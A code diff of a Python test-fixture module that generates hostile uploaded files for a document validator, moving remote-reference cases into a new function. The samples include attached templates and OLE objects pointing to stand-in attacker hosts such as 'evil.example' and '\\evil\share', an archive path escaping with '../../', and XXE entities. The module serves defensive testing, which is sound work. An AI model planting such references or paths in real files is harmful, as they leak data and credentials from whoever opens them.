@@ -97,7 +97,7 @@ def _packed_action() -> bytes:
 
 def hostile_files() -> tuple[Hostile, ...]:
     """Return all of them."""
-    return (*_deceiving(), *_archives(), *_papers(), *_names())
+    return (*_deceiving(), *_archives(), *_reaching_out(), *_papers(), *_names())
 
 
 def _deceiving() -> tuple[Hostile, ...]:
@@ -140,12 +140,7 @@ def _deceiving() -> tuple[Hostile, ...]:
 def _archives() -> tuple[Hostile, ...]:
     much = b"0" * (21 * 2**20)
     many = {f"word/{n}.xml": b"<w/>" for n in range(1001)}
-    template = _relation("attachedTemplate", "https://evil.example/t.dotm")
-    own = _relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")
-    link = _relation("hyperlink", "https://mg.gov.br")
-    share = _relation("oleObject", r"\\evil\share\a")
     macros = {TYPES: XML + b"<Types><x ContentType='application/x.macroEnabled.main'/></Types>"}
-    odt = "nota.odt"
     return (
         Hostile("an archive", "nota.zip", archive({"a": b"a"}), "wrong_kind"),
         Hostile("an archive called a document", "a.docx", archive({"a": b"a"}), "not_what_it_says"),
@@ -160,13 +155,30 @@ def _archives() -> tuple[Hostile, ...]:
         ),
         Hostile("a program within", "a.docx", office(parts={"word/a.exe": EXE}), "hides_another"),
         Hostile("a way out", "a.docx", office(parts={"../../a.xml": b"<a/>"}), "not_what_it_says"),
+        Hostile(
+            "a damaged part",
+            "a.docx",
+            office()[:90] + b"\xff" * 9 + office()[99:],
+            "not_what_it_says",
+        ),
         Hostile("a password", "a.docx", _locked(office()), "locked"),
         Hostile(
             "a password or an old format", "a.docx", b"\xd0\xcf\x11\xe0" + b"\0" * 60, "locked"
         ),
         Hostile("macros", "a.docx", office(parts={"word/vbaProject.bin": b"x"}), "has_macros"),
         Hostile("macros by their kind", "a.docx", office(parts=macros), "has_macros"),
-        Hostile("macros in an ODT", odt, office("odt", {"Basic/m.xml": b"<a/>"}), "has_macros"),
+        Hostile("macros in an ODT", "a.odt", office("odt", {"Basic/m.xml": b"<a/>"}), "has_macros"),
+    )
+
+
+def _reaching_out() -> tuple[Hostile, ...]:
+    """Return what has whoever opens it read something else."""
+    template = _relation("attachedTemplate", "https://evil.example/t.dotm")
+    own = _relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm")
+    link = _relation("hyperlink", "https://mg.gov.br")
+    share = _relation("oleObject", r"\\evil\share\a")
+    odt = "nota.odt"
+    return (
         Hostile("an entity", "a.docx", office(parts={"word/a.xml": XXE}), "reads_elsewhere"),
         Hostile(
             "an entity in a table", "a.xlsx", office("xlsx", {"xl/a.xml": XXE}), "reads_elsewhere"
@@ -189,12 +201,6 @@ def _archives() -> tuple[Hostile, ...]:
         Hostile("an object elsewhere", "a.docx", office(parts=share), "reads_elsewhere"),
         Hostile("one's own template", "a.docx", office(parts=own), SAVED),
         Hostile("a link to click", "a.docx", office(parts=link), SAVED),
-        Hostile(
-            "a damaged part",
-            "a.docx",
-            office()[:90] + b"\xff" * 9 + office()[99:],
-            "not_what_it_says",
-        ),
     )
 
 
